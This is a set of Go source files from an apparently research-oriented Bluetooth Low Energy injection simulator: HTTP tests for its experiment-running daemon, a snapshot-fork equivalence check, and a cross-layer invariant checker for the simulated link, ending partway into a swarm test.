							started <- fmt.Sprintf("seed-%d", t.Seed)
						}
						select {
						case <-release:
							return t.Seed, nil
						case <-t.Ctx.Done():
							return nil, t.Ctx.Err()
						}
					},
				}},
			}, nil
		},
	})
	return r
}

func postRun(t *testing.T, base, body string) (*http.Response, []byte) {
	t.Helper()
	resp, err := http.Post(base+"/v1/run", "application/json", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, data
}

// TestRunDeterministicUnderLoad is the tentpole acceptance test: 64
// concurrent submissions of the same (spec, seed) must all receive
// byte-identical NDJSON, identical to a serial in-process campaign run of
// the same spec, with exactly one execution behind them all.
func TestRunDeterministicUnderLoad(t *testing.T) {
	var builds atomic.Int64
	s := NewServer(Config{
		Registry:     stubRegistry(&builds, nil, nil),
		Hub:          obs.NewHub(),
		TrialWorkers: 4,
	})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	const clients = 64
	body := `{"experiment":"stub","trials":40,"seed_base":77}`
	streams := make([][]byte, clients)
	disps := make([]string, clients)
	errs := make([]error, clients)
	var wg sync.WaitGroup
	for i := 0; i < clients; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			resp, err := http.Post(ts.URL+"/v1/run", "application/json", strings.NewReader(body))
			if err != nil {
				errs[i] = err
				return
			}
			defer resp.Body.Close()
			data, err := io.ReadAll(resp.Body)
			if err != nil {
				errs[i] = err
				return
			}
			if resp.StatusCode != http.StatusOK {
				errs[i] = fmt.Errorf("HTTP %d: %s", resp.StatusCode, data)
				return
			}
			streams[i] = data
			disps[i] = resp.Header.Get("X-Cache")
		}(i)
	}
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			t.Fatalf("client %d: %v", i, err)
		}
	}

	// The serial reference: the same campaign run directly, one worker.
	var ref bytes.Buffer
	spec, err := stubRegistry(nil, nil, nil).Build(JobSpec{Experiment: "stub", Trials: 40, SeedBase: 77})
	if err != nil {
		t.Fatal(err)
	}
	runner := campaign.Runner{Workers: 1, Sinks: []campaign.Sink{campaign.NewNDJSON(&ref)}}
	if _, err := runner.Run(spec); err != nil {
		t.Fatal(err)
	}

	misses := 0
	for i := 0; i < clients; i++ {
		if streams[i] == nil {
			continue // already reported
		}
		if !bytes.Equal(streams[i], ref.Bytes()) {
			t.Fatalf("client %d stream differs from serial reference:\n%s\n--- vs ---\n%s",
				i, streams[i], ref.Bytes())
		}
		if disps[i] == "miss" {
			misses++
		}
	}
	if misses != 1 {
		t.Errorf("%d submissions were misses, want exactly 1 (rest join or hit)", misses)
	}
	if n := builds.Load(); n != 1 {
		t.Errorf("campaign built %d times for %d identical submissions, want 1", n, clients)
	}

	// A later identical submission replays from the cache, byte-identical.
	resp, data := postRun(t, ts.URL, body)
	if resp.Header.Get("X-Cache") != "hit" {
		t.Errorf("post-completion submission X-Cache = %q, want hit", resp.Header.Get("X-Cache"))
	}
	if !bytes.Equal(data, ref.Bytes()) {
		t.Error("cached replay differs from serial reference")
	}
	if n := builds.Load(); n != 1 {
		t.Errorf("cache hit re-executed the campaign (builds = %d)", n)
	}
}

// TestServedScenarioMatchesSerialCampaign pins the daemon to the real
// registry: a served scenario job must be byte-identical to a serial
// campaign run of the exact spec the CLI layer would build.
func TestServedScenarioMatchesSerialCampaign(t *testing.T) {
	if testing.Short() {
		t.Skip("runs full scenario simulations")
	}
	s := NewServer(Config{Hub: obs.NewHub()})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	body := `{"experiment":"scenarioA","target":"lightbulb","trials":2,"seed_base":7}`
	resp, data := postRun(t, ts.URL, body)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("HTTP %d: %s", resp.StatusCode, data)
	}

	spec, err := experiments.ScenarioSpec("scenarioA", "lightbulb",
		experiments.Options{TrialsPerPoint: 2, SeedBase: 7})
	if err != nil {
		t.Fatal(err)
	}
	var ref bytes.Buffer
	runner := campaign.Runner{Workers: 1, Sinks: []campaign.Sink{campaign.NewNDJSON(&ref)}}
	if _, err := runner.Run(spec); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(data, ref.Bytes()) {
		t.Fatalf("served stream differs from serial campaign:\n%s\n--- vs ---\n%s",
			data, ref.Bytes())
	}

	resp2, data2 := postRun(t, ts.URL, body)
	if got := resp2.Header.Get("X-Cache"); got != "hit" {
		t.Errorf("second submission X-Cache = %q, want hit", got)
	}
	if !bytes.Equal(data2, data) {
		t.Error("cache replay differs from first run")
	}
}

// TestQueueFullRejects asserts admission control: when the queue is at
// capacity, new submissions get 429 + Retry-After without blocking.
func TestQueueFullRejects(t *testing.T) {
	started := make(chan string, 8)
	release := make(chan struct{})
	s := NewServer(Config{
		Registry:   stubRegistry(nil, started, release),
		Hub:        obs.NewHub(),
		QueueCap:   2,
		JobWorkers: 1,
		RetryAfter: 3 * time.Second,
	})
	defer func() {
		close(release)
		s.Close()
	}()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	submit := func(seed int) (*http.Response, []byte) {
		return postRun(t, ts.URL,
			fmt.Sprintf(`{"experiment":"slow","trials":1,"seed_base":%d}`, seed))
	}
	client := &Client{Base: ts.URL}

	// First job occupies the single executor...
	if _, err := client.Submit(context.Background(),
		JobSpec{Experiment: "slow", Trials: 1, SeedBase: 101}); err != nil {
		t.Fatal(err)
	}
	select {
	case <-started:
	case <-time.After(5 * time.Second):
		t.Fatal("first job never started")
	}
	// ...two more fill the queue...
	for seed := 102; seed <= 103; seed++ {
		if _, err := client.Submit(context.Background(),
			JobSpec{Experiment: "slow", Trials: 1, SeedBase: uint64(seed)}); err != nil {
			t.Fatal(err)
		}
	}
	// ...and the next distinct spec is rejected, immediately.
	t0 := time.Now()
	resp, body := submit(104)
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("queue-full submission: HTTP %d (%s), want 429", resp.StatusCode, body)
	}
	if ra := resp.Header.Get("Retry-After"); ra != "3" {
		t.Errorf("Retry-After = %q, want 3", ra)
	}
	if e := time.Since(t0); e > 2*time.Second {
		t.Errorf("rejection took %v; admission must not block", e)
	}
	// An identical spec still joins — dedup bypasses the full queue.
	info, err := client.Submit(context.Background(),
		JobSpec{Experiment: "slow", Trials: 1, SeedBase: 103})
	if err != nil {
		t.Fatalf("join submission rejected: %v", err)
	}
	if info.Status != StatusQueued {
		t.Errorf("joined job status = %s, want queued", info.Status)
	}
}

// TestDrainFinishesAcceptedRejectsNew asserts the SIGTERM drain contract.
func TestDrainFinishesAcceptedRejectsNew(t *testing.T) {
	started := make(chan string, 8)
	release := make(chan struct{})
	s := NewServer(Config{
		Registry:   stubRegistry(nil, started, release),
		Hub:        obs.NewHub(),
		JobWorkers: 1,
	})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	client := &Client{Base: ts.URL}
	running, err := client.Submit(context.Background(),
		JobSpec{Experiment: "slow", Trials: 1, SeedBase: 201})
	if err != nil {
		t.Fatal(err)
	}
	select {
	case <-started:
	case <-time.After(5 * time.Second):
		t.Fatal("job never started")
	}
	queued, err := client.Submit(context.Background(),
		JobSpec{Experiment: "stub", Trials: 3, SeedBase: 202})
	if err != nil {
		t.Fatal(err)
	}

	drained := make(chan error, 1)
	go func() { drained <- s.Drain(context.Background()) }()

	// Drain flips readiness and rejects new work with 503.
	deadline := time.Now().Add(5 * time.Second)
	for {
		resp, err := http.Get(ts.URL + "/readyz")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode == http.StatusServiceUnavailable {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("readyz never turned 503 during drain")
		}
		time.Sleep(5 * time.Millisecond)
	}
	resp, body := postRun(t, ts.URL, `{"experiment":"stub","trials":1,"seed_base":203}`)
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("submission during drain: HTTP %d (%s), want 503", resp.StatusCode, body)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Error("503 during drain missing Retry-After")
	}

	// Unblock the running job; drain must finish both accepted jobs.
	close(release)
	select {
	case err := <-drained:
		if err != nil {
			t.Fatalf("drain: %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("drain never completed")
	}
	for _, id := range []string{running.ID, queued.ID} {
		info, err := client.Status(context.Background(), id)
		if err != nil {
			t.Fatal(err)
		}
		if info.Status != StatusDone {
			t.Errorf("job %s after drain: status %s, want done", id, info.Status)
		}
	}
}

// TestCancelRunningJob asserts cancellation reaches an in-flight trial.
func TestCancelRunningJob(t *testing.T) {
	started := make(chan string, 8)
	release := make(chan struct{})
	defer close(release)
	s := NewServer(Config{
		Registry:   stubRegistry(nil, started, release),
		Hub:        obs.NewHub(),
		JobWorkers: 1,
	})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	client := &Client{Base: ts.URL}
	info, err := client.Submit(context.Background(),
		JobSpec{Experiment: "slow", Trials: 1, SeedBase: 301})
	if err != nil {
		t.Fatal(err)
	}
	select {
	case <-started:
	case <-time.After(5 * time.Second):
		t.Fatal("job never started")
	}
	if _, err := client.Cancel(context.Background(), info.ID); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(5 * time.Second)
	for {
		got, err := client.Status(context.Background(), info.ID)
		if err != nil {
			t.Fatal(err)
		}
		if got.Status == StatusCanceled {
			break
		}
		if got.Status == StatusDone || got.Status == StatusFailed {
			t.Fatalf("canceled job reached status %s", got.Status)
		}
		if time.Now().After(deadline) {
			t.Fatalf("job stuck in %s after cancel", got.Status)
		}
		time.Sleep(5 * time.Millisecond)
	}
	// A canceled job must never poison the cache: resubmitting the spec
	// is a miss, not a hit.
	resp, err := http.Post(ts.URL+"/v1/jobs", "application/json",
		strings.NewReader(`{"experiment":"slow","trials":1,"seed_base":301}`))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if got := resp.Header.Get("X-Cache"); got != "miss" {
		t.Errorf("resubmission after cancel X-Cache = %q, want miss", got)
	}
}

// TestResultsEndpointStreamsAndSSE covers the async API surface.
func TestResultsEndpointStreamsAndSSE(t *testing.T) {
	s := NewServer(Config{Registry: stubRegistry(nil, nil, nil), Hub: obs.NewHub()})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	client := &Client{Base: ts.URL}
	info, err := client.Submit(context.Background(),
		JobSpec{Experiment: "stub", Trials: 5, SeedBase: 500})
	if err != nil {
		t.Fatal(err)
	}
	var ndjson bytes.Buffer
	if err := client.Results(context.Background(), info.ID, &ndjson); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(ndjson.String()), "\n")
	if len(lines) != 7 { // header + 5 results + trailer
		t.Fatalf("stream has %d lines, want 7:\n%s", len(lines), ndjson.String())
	}
	var header struct {
		Kind   string `json:"kind"`
		Trials int    `json:"trials"`
	}
	if err := json.Unmarshal([]byte(lines[0]), &header); err != nil {
		t.Fatal(err)
	}
	if header.Kind != "campaign" || header.Trials != 5 {
		t.Errorf("header = %+v", header)
	}

	// The same stream over SSE: one result event per line plus an end event.
	req, _ := http.NewRequest(http.MethodGet, ts.URL+"/v1/jobs/"+info.ID+"/results", nil)
	req.Header.Set("Accept", "text/event-stream")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	sse, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Count(string(sse), "event: result"); got != 7 {
		t.Errorf("SSE stream has %d result events, want 7", got)
	}
	if !strings.Contains(string(sse), "event: end") {
		t.Error("SSE stream missing end event")
	}

	// Unknown ids 404.
	resp2, err := http.Get(ts.URL + "/v1/jobs/j-9999/results")
	if err != nil {
		t.Fatal(err)
	}
	resp2.Body.Close()
	if resp2.StatusCode != http.StatusNotFound {
		t.Errorf("unknown job results: HTTP %d, want 404", resp2.StatusCode)
	}
}

// TestHealthMetricsExperiments covers the operational endpoints.
func TestHealthMetricsExperiments(t *testing.T) {
	hub := obs.NewHub()
	s := NewServer(Config{Registry: stubRegistry(nil, nil, nil), Hub: hub})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	for _, path := range []string{"/healthz", "/readyz"} {
		resp, err := http.Get(ts.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Errorf("%s: HTTP %d, want 200", path, resp.StatusCode)
		}
	}

	// Run one job so the counters move.
	if _, data := postRun(t, ts.URL, `{"experiment":"stub","trials":2,"seed_base":600}`); len(data) == 0 {
		t.Fatal("empty run stream")
	}
	resp, err := http.Get(ts.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var snap struct {
		Counters []struct {
			Name  string `json:"name"`
			Value int64  `json:"value"`
		} `json:"counters"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&snap); err != nil {
		t.Fatal(err)
	}
	want := map[string]bool{"serve.jobs_admitted": false, "serve.jobs_done": false, "serve.cache_misses": false}
	for _, c := range snap.Counters {
		if _, ok := want[c.Name]; ok && c.Value > 0 {
			want[c.Name] = true
		}
	}
	for name, seen := range want {
		if !seen {
			t.Errorf("metrics snapshot missing nonzero %s", name)
		}
	}

	// The registry listing names the stub experiments.
	resp2, err := http.Get(ts.URL + "/v1/experiments")
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	listing, _ := io.ReadAll(resp2.Body)
	for _, name := range []string{"stub", "slow"} {
		if !strings.Contains(string(listing), name) {
			t.Errorf("experiments listing missing %q: %s", name, listing)
		}
	}
}

// TestLoadgenSelf drives the loadgen harness against an in-process
// server: all jobs succeed and the dedup split is consistent.
func TestLoadgenSelf(t *testing.T) {
	s := NewServer(Config{Registry: stubRegistry(nil, nil, nil), Hub: obs.NewHub()})
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	specs := []JobSpec{
		{Experiment: "stub", Trials: 5, SeedBase: 700},
		{Experiment: "stub", Trials: 5, SeedBase: 701},
	}
	rep, err := Loadgen(context.Background(), &Client{Base: ts.URL},
		LoadgenConfig{Clients: 4, Jobs: 20, Specs: specs}, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Errors != 0 {
		t.Fatalf("loadgen errors = %d:\n%s", rep.Errors, rep.Table())
	}
	if rep.Hits+rep.Joins+rep.Misses != 20 {
		t.Errorf("dispositions sum to %d, want 20", rep.Hits+rep.Joins+rep.Misses)
	}
	if rep.Misses < 2 {
		t.Errorf("misses = %d, want at least one per distinct spec", rep.Misses)
	}
	if !strings.Contains(rep.Table(), "cache hit ratio") {
		t.Error("table missing cache hit ratio row")
	}
}
