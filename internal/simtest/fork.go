package simtest

import (
	"fmt"
	"strings"

	"injectable/internal/sim"
)

// The fork-equivalence check turns World.Snapshot/Fork into an invariant:
// a world snapshotted at an arbitrary mid-run instant, run to its horizon,
// rolled back and replayed must reproduce the continued timeline exactly —
// same fingerprint, byte for byte. Any state the snapshot engine fails to
// capture (a closure variable, a stray global, an unregistered root)
// surfaces as a divergence between the two timelines, and the swarm's
// shrinker then minimises the world that exposed it.

// ForkReport is the outcome of one fork-equivalence check.
type ForkReport struct {
	Seed   uint64
	Params Params
	// SnapAt is the absolute simulation time the snapshot was taken —
	// drawn from the seed's dedicated RNG stream, so each seed probes a
	// different instant of its run window.
	SnapAt sim.Time
	// Match: the continued and forked timelines produced identical
	// fingerprints.
	Match bool
	// Continued and Forked are the two timelines' fingerprints.
	Continued string
	Forked    string
	// Result is the forked timeline's result; its invariants are checked
	// like any RunWorld result.
	Result Result
}

// Failed reports a divergence or an invariant breach in either timeline
// (the timelines are fingerprint-equal on match, so checking one suffices).
func (r ForkReport) Failed() bool { return !r.Match || r.Result.Failed() }

// ForkCheck builds the world, brings the connection up, launches the
// attack, then snapshots at a seed-derived instant of the run window, runs
// to the horizon, forks back and replays the same span.
func ForkCheck(seed uint64, p Params) (ForkReport, error) {
	lw, err := buildWorld(seed, p)
	if err != nil {
		return ForkReport{}, err
	}
	lw.start(p)
	if err := lw.attack(p); err != nil {
		return ForkReport{}, err
	}

	total := sim.Duration(p.RunSeconds) * sim.Second
	pre := sim.Duration(sim.NewRNG(seed).Child("simtest-fork").Intn(p.RunSeconds*1000)) * sim.Millisecond
	lw.w.RunFor(pre)
	snap := lw.w.Snapshot()
	rep := ForkReport{Seed: seed, Params: p, SnapAt: lw.w.Now()}

	lw.w.RunFor(total - pre)
	rep.Continued = lw.collect().Fingerprint()

	lw.w.Fork(snap)
	lw.w.RunFor(total - pre)
	rep.Result = lw.collect()
	rep.Forked = rep.Result.Fingerprint()
	rep.Match = rep.Continued == rep.Forked
	return rep, nil
}

// RunWorldFork runs one world through ForkCheck and folds any divergence
// into the Result as a synthetic "fork-divergence" violation, so the
// swarm and shrink machinery treat snapshot bugs exactly like invariant
// breaches.
func RunWorldFork(seed uint64, p Params) (Result, error) {
	rep, err := ForkCheck(seed, p)
	if err != nil {
		return Result{}, err
	}
	res := rep.Result
	if !rep.Match {
		res.Violations = append(res.Violations, Violation{
			Invariant: "fork-divergence",
			At:        rep.SnapAt,
			Detail:    forkDiffDetail(rep.Continued, rep.Forked),
		})
	}
	return res, nil
}

// forkDiffDetail points at the first fingerprint line where the continued
// and forked timelines diverge.
func forkDiffDetail(continued, forked string) string {
	cl, fl := strings.Split(continued, "\n"), strings.Split(forked, "\n")
	for i := 0; i < len(cl) && i < len(fl); i++ {
		if cl[i] != fl[i] {
			return fmt.Sprintf("fingerprint line %d: continued %q, forked %q", i+1, cl[i], fl[i])
		}
	}
	return fmt.Sprintf("fingerprint length: continued %d lines, forked %d lines", len(cl), len(fl))
}
