package simtest

import (
	"fmt"
	"strings"

	"injectable/internal/ble"
	"injectable/internal/link"
	"injectable/internal/medium"
	"injectable/internal/obs"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// maxViolations bounds the report: worlds that break an invariant tend to
// break it every event, and the first few instances are the useful ones.
const maxViolations = 64

// Violation is one observed breach of a cross-layer invariant.
type Violation struct {
	Invariant string   // stable invariant name (see README "Testing & invariants")
	At        sim.Time // simulation time of the breach
	Detail    string
}

// String implements fmt.Stringer.
func (v Violation) String() string {
	return fmt.Sprintf("[%s] t=%v %s", v.Invariant, v.At, v.Detail)
}

// Checker is the cross-layer invariant engine. It taps the simulation's
// observation surfaces — sim.Tracer, medium.Observer, the medium delivery
// observer, per-connection window/event hooks and the forensics ledger —
// and recomputes each layer's claimed quantities independently:
//
//	time-monotonic    trace time never goes backwards
//	widening-eq4      slave widening == eq. 4/5 recomputed from its inputs
//	window-width      window width == TxWinSize + 2·widening (eq. 1/2)
//	span-eq5          steady spans are whole multiples of the interval
//	csa-channel       hop sequence matches the reference CSA#1/#2
//	event-counter     window event counters advance by 1..latency+1
//	enc-counter       encryption packet counters never decrease
//	anchor-in-window  adopted anchors lie inside the announced window
//	delivery-provenance  every delivery corresponds to a real transmission
//	delivery-instant  frames deliver exactly at their on-air end
//	corruption-attribution  corrupted ⇔ capture/noise/fade cause recorded
//	ledger-trace      ledger records ↔ inject-tx traces (≤1 in flight)
//	ledger-outcome    every record's outcome is from the closed set
//	ledger-attempt-seq   attempt numbers count 1,2,… per activity
//
// The checker is observation-only: it never mutates world state and never
// consumes RNG draws, so a checked world evolves identically to an
// unchecked one.
type Checker struct {
	now func() sim.Time
	// scale is the widening countermeasure factor the world is *supposed*
	// to run with (≤0 means spec behaviour, i.e. 1.0).
	scale float64

	violations []Violation
	truncated  int

	anyTrace    bool
	lastTraceAt sim.Time
	injectTx    int
	windows     int

	txLog map[txKey]int

	// watches keeps every per-connection watcher reachable from the
	// checker. The watchers' window/event hooks are closures, which world
	// snapshots cannot see through — this slice is what lets a snapshot
	// capture (and a fork roll back) their cursor state.
	watches []*connWatch
}

type txKey struct {
	source  string
	channel phy.Channel
	start   sim.Time
	end     sim.Time
}

// NewChecker builds an invariant engine. now reads the scheduler clock and
// wideningScale is the legitimate countermeasure scale (≤0 = spec).
func NewChecker(now func() sim.Time, wideningScale float64) *Checker {
	if wideningScale <= 0 {
		wideningScale = 1
	}
	return &Checker{now: now, scale: wideningScale, txLog: make(map[txKey]int)}
}

// violate records a breach, capping the report length.
func (ck *Checker) violate(invariant string, format string, args ...any) {
	if len(ck.violations) >= maxViolations {
		ck.truncated++
		return
	}
	ck.violations = append(ck.violations, Violation{
		Invariant: invariant,
		At:        ck.now(),
		Detail:    fmt.Sprintf(format, args...),
	})
}

// Violations returns the breaches observed so far.
func (ck *Checker) Violations() []Violation { return ck.violations }

// Truncated returns how many further breaches were dropped past the cap.
func (ck *Checker) Truncated() int { return ck.truncated }

// Windows returns how many slave receive windows were inspected.
func (ck *Checker) Windows() int { return ck.windows }

// InjectTxCount returns how many attacker transmissions were traced.
func (ck *Checker) InjectTxCount() int { return ck.injectTx }

// CheckAttemptOutcome validates an injector attempt outcome against the
// closed outcome set (wired to injectable.Injector.OnAttempt).
func (ck *Checker) CheckAttemptOutcome(outcome string) {
	if !validOutcomes[outcome] {
		ck.violate("ledger-outcome", "injector attempt outcome %q outside the closed set", outcome)
	}
}

// Summary renders all violations, one per line.
func (ck *Checker) Summary() string {
	var b strings.Builder
	for _, v := range ck.violations {
		fmt.Fprintf(&b, "%v\n", v)
	}
	if ck.truncated > 0 {
		fmt.Fprintf(&b, "... and %d more\n", ck.truncated)
	}
	return b.String()
}

// Trace implements sim.Tracer: checks time monotonicity and counts
// injection transmissions for the ledger reconciliation.
func (ck *Checker) Trace(e sim.TraceEvent) {
	if ck.anyTrace && e.At < ck.lastTraceAt {
		ck.violate("time-monotonic", "trace %q from %s at t=%v after t=%v",
			e.Kind, e.Source, e.At, ck.lastTraceAt)
	}
	ck.anyTrace = true
	ck.lastTraceAt = e.At
	if e.Kind == "inject-tx" {
		ck.injectTx++
	}
}

// ObserveTx implements medium.Observer: logs every transmission start so
// deliveries can be matched back to a real source.
func (ck *Checker) ObserveTx(o medium.TxObservation) {
	ck.txLog[txKey{o.Source, o.Channel, o.StartAt, o.EndAt}]++
}

// OnDeliver checks the medium's account of one frame delivery. Install via
// Medium.SetDeliverObserver(ck.OnDeliver).
func (ck *Checker) OnDeliver(o medium.DeliverObservation) {
	key := txKey{o.Source, o.Channel, o.StartAt, o.EndAt}
	if ck.txLog[key] == 0 {
		ck.violate("delivery-provenance",
			"%s received a frame from %s on ch %d (air %v..%v) that was never transmitted",
			o.Radio, o.Source, o.Channel, o.StartAt, o.EndAt)
	}
	if now := ck.now(); now != o.EndAt {
		ck.violate("delivery-instant", "frame with on-air end %v delivered at %v", o.EndAt, now)
	}
	cause := o.CaptureLost || o.NoiseLost || o.FadeLost
	if o.Corrupted != cause {
		ck.violate("corruption-attribution",
			"corrupted=%v but capture=%v noise=%v fade=%v (rx %s ← %s)",
			o.Corrupted, o.CaptureLost, o.NoiseLost, o.FadeLost, o.Radio, o.Source)
	}
	if (o.CaptureLost || o.NoiseLost) && !o.Collided {
		ck.violate("corruption-attribution",
			"interference loss (capture=%v noise=%v) without a collision (rx %s ← %s)",
			o.CaptureLost, o.NoiseLost, o.Radio, o.Source)
	}
	if o.FadeLost {
		if snr := float64(o.RSSI) - float64(phy.NoiseFloor); snr > 16 {
			ck.violate("corruption-attribution",
				"sensitivity fade at %.1f dB SNR — fades are impossible above 16 dB (rx %s)",
				snr, o.Radio)
		}
	}
}

// connWatch tracks per-connection invariant state for one slave link.
type connWatch struct {
	ck   *Checker
	name string
	conn *link.Conn

	haveWin bool
	lastWin link.WindowInfo

	haveCtr  bool
	m2s, s2m uint64
}

// WatchConn attaches window/event invariant checks to a slave-role
// connection. Existing OnWindow/OnEvent hooks are chained, not replaced.
func (ck *Checker) WatchConn(name string, c *link.Conn) {
	if c == nil || c.Role() != link.RoleSlave {
		return
	}
	w := &connWatch{ck: ck, name: name, conn: c}
	ck.watches = append(ck.watches, w)
	prevWindow, prevEvent := c.OnWindow, c.OnEvent
	c.OnWindow = func(info link.WindowInfo) {
		w.onWindow(info)
		if prevWindow != nil {
			prevWindow(info)
		}
	}
	c.OnEvent = func(e link.EventInfo) {
		w.onEvent(e)
		if prevEvent != nil {
			prevEvent(e)
		}
	}
}

// refWidening recomputes eq. 4/5 from the window's declared inputs,
// mirroring the spec formula independently of internal/link:
//
//	widening = span·(SCA_M + SCA_S)·10⁻⁶ + 32 µs   (then countermeasure-scaled)
func refWidening(span sim.Duration, masterPPM, slavePPM, scale float64) sim.Duration {
	w := sim.Duration(float64(span)*(masterPPM+slavePPM)*1e-6) + ble.WindowWideningFloor
	return sim.Duration(float64(w) * scale)
}

func (w *connWatch) onWindow(info link.WindowInfo) {
	ck := w.ck
	ck.windows++
	params := w.conn.Params()

	// widening-eq4: the slave's applied widening must equal the paper's
	// formula on the inputs it announced.
	if want := refWidening(info.Span, info.MasterPPM, info.SlavePPM, ck.scale); info.Widening != want {
		ck.violate("widening-eq4",
			"%s event %d (%v window): widening %v, eq. 4/5 requires %v (span %v, SCA %g+%g ppm, scale %g)",
			w.name, info.Event, info.Kind, info.Widening, want,
			info.Span, info.MasterPPM, info.SlavePPM, ck.scale)
	}

	// window-width: total listening time is the transmit window (zero for
	// steady state) plus the widening applied at both edges.
	if want := info.TxWinSize + 2*info.Widening; info.Width != want {
		ck.violate("window-width",
			"%s event %d (%v window): width %v, want txWin %v + 2×%v = %v",
			w.name, info.Event, info.Kind, info.Width, info.TxWinSize, info.Widening, want)
	}
	if info.Kind == link.WindowSteady && info.TxWinSize != 0 {
		ck.violate("window-width", "%s event %d: steady window with txWinSize %v",
			w.name, info.Event, info.TxWinSize)
	}

	// span-eq5: steady-state spans stretch in whole connection intervals
	// (one per elapsed event, eq. 5).
	if info.Kind == link.WindowSteady {
		interval := params.IntervalDuration()
		if interval <= 0 || info.Span <= 0 || info.Span%interval != 0 {
			ck.violate("span-eq5", "%s event %d: span %v is not a positive multiple of interval %v",
				w.name, info.Event, info.Span, interval)
		}
	}

	// csa-channel: the event's channel must match the reference selector.
	var want uint8
	if params.CSA2 {
		want = refCSA2Channel(info.Event, params.AccessAddress, params.ChannelMap)
	} else {
		want = refCSA1Channel(info.Event, params.Hop, params.ChannelMap)
	}
	if info.Channel != want {
		algo := "CSA#1"
		if params.CSA2 {
			algo = "CSA#2"
		}
		ck.violate("csa-channel", "%s event %d: channel %d, %s reference says %d (map %v hop %d)",
			w.name, info.Event, info.Channel, algo, want, params.ChannelMap, params.Hop)
	}

	// event-counter: counters move forward by 1 plus at most the slave
	// latency (events slept through, §III-B.8).
	if w.haveWin {
		d := info.Event - w.lastWin.Event // modular uint16 distance
		if d == 0 || d > params.Latency+1 {
			ck.violate("event-counter", "%s: window event counter jumped %d → %d (latency %d)",
				w.name, w.lastWin.Event, info.Event, params.Latency)
		}
	}

	// enc-counter: per-direction nonce counters only grow.
	if m2s, s2m, ok := w.conn.EncryptionCounters(); ok {
		if w.haveCtr && (m2s < w.m2s || s2m < w.s2m) {
			ck.violate("enc-counter", "%s: packet counters went backwards (m2s %d→%d, s2m %d→%d)",
				w.name, w.m2s, m2s, w.s2m, s2m)
		}
		w.haveCtr, w.m2s, w.s2m = true, m2s, s2m
	}

	w.haveWin, w.lastWin = true, info
}

func (w *connWatch) onEvent(e link.EventInfo) {
	ck := w.ck
	if !w.haveWin {
		return
	}
	if e.Counter != w.lastWin.Event {
		ck.violate("event-counter", "%s: event %d closed but the open window was for event %d",
			w.name, e.Counter, w.lastWin.Event)
		return
	}
	if e.Missed {
		return
	}
	// anchor-in-window: whatever the slave adopted as anchor must have
	// started inside the receive window it announced (the radio can lock
	// a preamble that began up to the preamble+AA time before it tuned).
	slack := phy.LE1M.PreambleAATime() + 10*sim.Microsecond
	open, close := w.lastWin.OpenAt, w.lastWin.OpenAt.Add(w.lastWin.Width)
	if e.Anchor.Add(slack) < open || e.Anchor > close.Add(slack) {
		ck.violate("anchor-in-window",
			"%s event %d: anchor %v outside window [%v, %v] (±%v)",
			w.name, e.Counter, e.Anchor, open, close, slack)
	}
}

// validOutcomes is the closed set of forensics outcomes.
var validOutcomes = map[string]bool{
	"success":         true,
	"timing-mismatch": true,
	"seq-mismatch":    true,
	"no-response":     true,
	"connection-lost": true,
}

// Finish reconciles the forensics ledger against the trace: every injected
// transmission must be accounted for by exactly one ledger record (at most
// one attempt may still be in flight when the world ends), outcomes must
// come from the closed set, and attempt numbering must be sequential.
func (ck *Checker) Finish(led *obs.Ledger) {
	recs := led.Records()
	if d := ck.injectTx - len(recs); d < 0 || d > 1 {
		ck.violate("ledger-trace", "%d inject-tx traces but %d ledger records (want equal, ≤1 in flight)",
			ck.injectTx, len(recs))
	}
	prev := 0
	for i, r := range recs {
		if !validOutcomes[r.Outcome] {
			ck.violate("ledger-outcome", "record %d has outcome %q outside the closed set", i, r.Outcome)
		}
		if r.Outcome == "success" && r.MissReason != "" {
			ck.violate("ledger-outcome", "record %d: success with miss reason %q", i, r.MissReason)
		}
		if r.Attempt != prev+1 && r.Attempt != 1 {
			ck.violate("ledger-attempt-seq", "record %d: attempt %d after attempt %d", i, r.Attempt, prev)
		}
		prev = r.Attempt
	}
}
