package simtest

import (
	"strings"
	"testing"
)

// swarmSeedBase anchors the CI swarm; the full run covers
// [swarmSeedBase, swarmSeedBase+500).
const swarmSeedBase = 42_000

func swarmWorlds(t *testing.T) int {
	t.Helper()
	if testing.Short() {
		return 50
	}
	return 500
}

// TestSwarmInvariantsHold is the tentpole: every randomized world must pass
// every cross-layer invariant.
func TestSwarmInvariantsHold(t *testing.T) {
	worlds := swarmWorlds(t)
